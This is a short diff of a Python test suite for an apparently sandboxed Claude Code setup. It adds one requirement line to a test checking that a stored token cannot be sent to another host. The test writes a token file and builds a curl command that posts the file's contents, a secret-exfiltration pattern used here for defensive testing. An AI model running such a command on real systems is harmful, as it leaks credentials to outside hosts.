@@ -69,6 +69,7 @@ def test_a_picture_and_an_example_of_an_environment_are_read(claude: Claude, bot
 
 def test_a_token_leaves_for_no_other_host(claude: Claude, bottle: Bottle) -> None:
     """Claude Code may read a token and tell the model; sent to another allowed host, or in the clear, it is refused."""
+    claude.needs("one level")
     bottle.exec("sh", "-c", "cat >/workspace/token", stdin=TOKEN)
     before = len(claude.model.seen)
     send = "curl -sS -o /dev/null -w %{http_code} --data @/workspace/token"
